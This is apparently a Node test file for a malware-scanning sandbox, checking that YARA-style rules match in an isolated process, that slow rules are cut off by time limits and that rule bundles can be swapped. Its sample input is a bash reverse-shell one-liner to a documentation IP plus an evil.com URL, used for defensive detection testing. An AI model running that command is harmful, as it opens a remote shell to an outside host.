import assert from 'node:assert/strict';
import { after, it } from 'node:test';
import { silentLogger } from '../../../platform/logger.ts';
import { defaultLimits } from '../limits.ts';
import { createSandboxes, type StageDone } from '../sandbox/index.ts';
import { encodeBundle, rulesAttachment } from './index.ts';

const limits = { ...defaultLimits, stageMs: 6_000 };
const sandboxes = createSandboxes({
  size: 1,
  stages: new URL('../sandbox/child-stages.ts', import.meta.url),
  limits,
  logger: silentLogger(),
});
after(() => sandboxes[Symbol.asyncDispose]());

async function stagesOf(content: string): Promise<ReadonlyMap<string, StageDone>> {
  const bytes = Buffer.from(content);
  const stages = new Map<string, StageDone>();
  const order = {
    sizeBytes: bytes.length,
    open: async function* () {
      yield bytes;
    },
    skip: ['unpack', 'structure', 'digests'],
    earlier: {},
    limits,
    leftMs: 30_000,
  };
  await sandboxes.run(order, {
    stageBegun: () => undefined,
    stageDone: async (done) => void stages.set(done.stage, done),
    member: () => assert.fail('nothing is unpacked here'),
  });
  return stages;
}

function attach(generation: number, text: string): void {
  const sets = [{ name: 'own', version: generation, sources: [{ name: 'own.yar', text }] }];
  sandboxes.attach(rulesAttachment, encodeBundle({ generation, sets }));
}

it('holds files against rules in a process that can read nothing, and takes new ones as they come', async () => {
  const first = await stagesOf('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1 http://evil.com/x');
  const rules = first.get('rules')?.result;
  assert.deepEqual(rules?.sets, [{ name: 'starting', version: 1 }]);
  assert.match(JSON.stringify(rules?.matches), /"shell_to_socket"/);
  assert.match(JSON.stringify(first.get('indicators')?.result), /hxxp:\/\/evil\[\.\]com\/x/);

  const slow = 'rule slow { condition: for all i in (0..100000000000) : ( i * 3 > -1 ) }';
  attach(1, `rule evil { strings: $a = "evil" condition: $a }\n${slow}`);
  const second = await stagesOf('evil');
  assert.equal(second.get('rules')?.outcome, 'done');
  assert.deepEqual(second.get('rules')?.limits, [
    { limit: 'stageMs', allowed: 1_000, where: 'rule own/slow' },
  ]);
  assert.match(JSON.stringify(second.get('rules')?.result), /"evil"/);

  attach(2, 'rule nothing { condition: false }');
  const third = await stagesOf('evil');
  assert.deepEqual(third.get('rules')?.result, {
    generation: 2,
    sets: [{ name: 'own', version: 2 }],
    matches: [],
    unfinished: [],
  });
});
